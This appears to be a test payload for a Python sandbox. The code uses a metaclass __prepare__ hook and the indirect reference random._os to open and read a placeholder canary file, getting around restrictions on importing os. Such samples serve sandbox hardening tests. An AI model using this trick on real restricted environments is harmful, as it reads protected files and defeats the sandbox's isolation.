# META {"kind": "class", "goal": "canary", "args": [], "slots": {"name": "mallory"}}
import random

class Meta(type):
    @classmethod
    def __prepare__(mcs, name, bases):
        return {"text": random._os.fdopen(random._os.open("@CANARY@", 0)).read()}

def m(self):
    class Thing(metaclass=Meta):
        pass
    return "L1:" + Thing.text
